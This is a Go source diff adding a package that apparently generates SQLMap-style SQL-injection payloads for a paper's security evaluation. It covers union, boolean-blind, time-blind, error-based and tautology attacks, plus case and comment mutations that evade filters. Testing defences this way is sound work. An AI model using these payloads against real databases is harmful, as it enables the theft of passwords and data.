@@ -1,0 +1,280 @@
+// Package sqlgen generates SQL-injection attack payloads in the style of
+// automated penetration tools (SQLMap). The security evaluation (Table II)
+// uses it to produce ~40 working attack variants per vulnerable plugin,
+// spanning the four exploit classes of Table I: union-based, standard
+// (boolean) blind, double (time) blind, and tautology.
+//
+// Payloads avoid subqueries (the minidb substrate does not support them);
+// each class still exercises its defining observable: union payloads merge
+// attacker rows, boolean-blind payloads toggle result emptiness, time-blind
+// payloads toggle virtual SLEEP delay, and tautologies force WHERE clauses
+// true.
+package sqlgen
+
+import (
+	"strings"
+)
+
+// AttackType classifies a payload per Table I of the paper.
+type AttackType int
+
+// The four attack classes of the WP-SQLI-LAB testbed, plus the
+// error-based class (not part of the testbed's Table I, but a common class
+// in the wild: the database error message itself carries the exfiltrated
+// value, via EXTRACTVALUE/UPDATEXML XPath errors).
+const (
+	Union AttackType = iota + 1
+	StandardBlind
+	DoubleBlind
+	Tautology
+	ErrorBased
+)
+
+// String returns the paper's name for the attack type.
+func (t AttackType) String() string {
+	switch t {
+	case Union:
+		return "Union Based"
+	case StandardBlind:
+		return "Standard Blind"
+	case DoubleBlind:
+		return "Double Blind"
+	case Tautology:
+		return "Tautology"
+	case ErrorBased:
+		return "Error Based"
+	default:
+		return "Unknown"
+	}
+}
+
+// Context describes the injection point a payload must fit.
+type Context struct {
+	// Quoted is set when the injection point sits inside a quoted string
+	// literal; payloads must break out of (and re-balance) the quotes.
+	Quoted bool
+	// Columns is the column count of the vulnerable SELECT, needed by
+	// union payloads. Zero defaults to 2.
+	Columns int
+	// Table and Column name the data a union payload exfiltrates;
+	// defaults are users.password.
+	Table  string
+	Column string
+}
+
+func (c Context) normalize() Context {
+	if c.Columns <= 0 {
+		c.Columns = 2
+	}
+	if c.Table == "" {
+		c.Table = "users"
+	}
+	if c.Column == "" {
+		c.Column = "password"
+	}
+	return c
+}
+
+// Generate returns up to n distinct payloads of the given type for the
+// given injection context. Generation is deterministic: templates are
+// expanded with a fixed sequence of mutators (case flips, comment
+// whitespace, trailing comment forms), mirroring how SQLMap enumerates its
+// boundary/payload matrix.
+func Generate(typ AttackType, ctx Context, n int) []string {
+	ctx = ctx.normalize()
+	var bases []string
+	switch typ {
+	case Union:
+		bases = unionBases(ctx)
+	case StandardBlind:
+		bases = blindBases()
+	case DoubleBlind:
+		bases = timeBases()
+	case Tautology:
+		bases = tautologyBases()
+	case ErrorBased:
+		bases = errorBases()
+	}
+	seen := make(map[string]bool, n)
+	var out []string
+	add := func(p string) bool {
+		if ctx.Quoted {
+			p = quoteWrap(p)
+		}
+		if seen[p] {
+			return len(out) >= n
+		}
+		seen[p] = true
+		out = append(out, p)
+		return len(out) >= n
+	}
+	for _, mutate := range mutators() {
+		for _, b := range bases {
+			if add(mutate(b)) {
+				return out
+			}
+		}
+	}
+	return out
+}
+
+// GenerateAll returns n payloads of every attack type.
+func GenerateAll(ctx Context, nPerType int) map[AttackType][]string {
+	out := make(map[AttackType][]string, 5)
+	for _, t := range []AttackType{Union, StandardBlind, DoubleBlind, Tautology, ErrorBased} {
+		out[t] = Generate(t, ctx, nPerType)
+	}
+	return out
+}
+
+func unionBases(ctx Context) []string {
+	cols := make([]string, ctx.Columns)
+	for i := range cols {
+		cols[i] = "NULL"
+	}
+	// Put the target column in each position for column-position probing,
+	// as SQLMap does.
+	var bases []string
+	for i := range cols {
+		probe := make([]string, len(cols))
+		copy(probe, cols)
+		probe[i] = ctx.Column
+		bases = append(bases,
+			"-1 UNION SELECT "+strings.Join(probe, ", ")+" FROM "+ctx.Table)
+	}
+	bases = append(bases,
+		"-1 UNION ALL SELECT "+strings.Join(cols, ", "),
+		"-1 UNION SELECT "+strings.Join(cols, ", "),
+		"-1 UNION SELECT version(), database()"+padNulls(ctx.Columns-2),
+		"-1 UNION SELECT user(), version()"+padNulls(ctx.Columns-2),
+	)
+	return bases
+}
+
+func padNulls(n int) string {
+	var sb strings.Builder
+	for i := 0; i < n; i++ {
+		sb.WriteString(", NULL")
+	}
+	return sb.String()
+}
+
+func blindBases() []string {
+	return []string{
+		"1 AND 1=1",
+		"1 AND 1=2",
+		"1 AND 2>1",
+		"1 AND LENGTH(version())>3",
+		"1 AND ASCII(SUBSTRING(version(), 1, 1))>52",
+		"1 AND ASCII(SUBSTRING(database(), 1, 1))>64",
+		"1 AND SUBSTRING(version(), 1, 1)='5'",
+		"1 AND LENGTH(database())>1",
+		"1 AND STRCMP(version(), '0')>0",
+		"1 AND 1 LIKE 1",
+	}
+}
+
+func timeBases() []string {
+	return []string{
+		"1 AND SLEEP(5)",
+		"1 AND SLEEP(3)",
+		"1 OR SLEEP(5)",
+		"1 AND IF(1=1, SLEEP(5), 0)",
+		"1 AND IF(LENGTH(version())>3, SLEEP(5), 0)",
+		"1 AND IF(ASCII(SUBSTRING(version(), 1, 1))>52, SLEEP(3), 0)",
+		"1 AND BENCHMARK(5000000, MD5('probe'))",
+		"1 OR IF(1=1, SLEEP(2), 0)",
+	}
+}
+
+func errorBases() []string {
+	return []string{
+		"1 AND EXTRACTVALUE(1, version())",
+		"1 AND EXTRACTVALUE(1, database())",
+		"1 AND EXTRACTVALUE(1, user())",
+		"1 AND UPDATEXML(1, version(), 1)",
+		"1 AND UPDATEXML(1, database(), 1)",
+		"1 OR EXTRACTVALUE(1, user())",
+	}
+}
+
+func tautologyBases() []string {
+	return []string{
+		"1 OR 1=1",
+		"-1 OR 1=1",
+		"1 OR 2=2",
+		"1 OR 'a'='a'",
+		"1 OR 1 LIKE 1",
+		"1 OR 3>2",
+		"0 OR TRUE",
+		"1 OR NOT 1=2",
+	}
+}
+
+// mutators returns the deterministic payload mutations applied to each
+// base, in order: identity, keyword case flips, comment-as-whitespace,
+// trailing comment forms, and combinations.
+func mutators() []func(string) string {
+	identity := func(p string) string { return p }
+	upper := func(p string) string { return strings.ToUpper(p) }
+	mixed := func(p string) string { return mixCase(p) }
+	inlineComment := func(p string) string { return strings.ReplaceAll(p, " ", "/**/") }
+	doubleSpace := func(p string) string { return strings.ReplaceAll(p, " ", "  ") }
+	trailDashes := func(p string) string { return p + " -- -" }
+	trailHash := func(p string) string { return p + " #" }
+	return []func(string) string{
+		identity,
+		trailDashes,
+		trailHash,
+		upper,
+		mixed,
+		inlineComment,
+		doubleSpace,
+		func(p string) string { return upper(p) + " #" },
+		func(p string) string { return mixed(p) + " -- -" },
+		func(p string) string { return inlineComment(p) + "#" },
+	}
+}
+
+func mixCase(p string) string {
+	b := []byte(p)
+	letter := 0
+	for i, c := range b {
+		switch {
+		case c >= 'a' && c <= 'z':
+			if letter%2 == 0 {
+				b[i] = c - 'a' + 'A'
+			}
+			letter++
+		case c >= 'A' && c <= 'Z':
+			if letter%2 == 1 {
+				b[i] = c - 'A' + 'a'
+			}
+			letter++
+		}
+	}
+	return string(b)
+}
+
+// quoteWrap adapts a numeric-context payload to a single-quoted string
+// context: close the string, inject, and re-balance with a trailing
+// comment.
+func quoteWrap(p string) string {
+	return "x' OR " + stripLeadingValue(p) + " -- -"
+}
+
+// stripLeadingValue removes the leading numeric value of a payload ("1 AND
+// ..." → "..."), keeping the boolean condition for quote-context reuse.
+func stripLeadingValue(p string) string {
+	trimmed := strings.TrimLeft(p, "-0123456789 ")
+	switch {
+	case strings.HasPrefix(strings.ToUpper(trimmed), "AND "):
+		return trimmed[4:]
+	case strings.HasPrefix(strings.ToUpper(trimmed), "OR "):
+		return trimmed[3:]
+	case trimmed == "":
+		return "1=1"
+	default:
+		return trimmed
+	}
+}
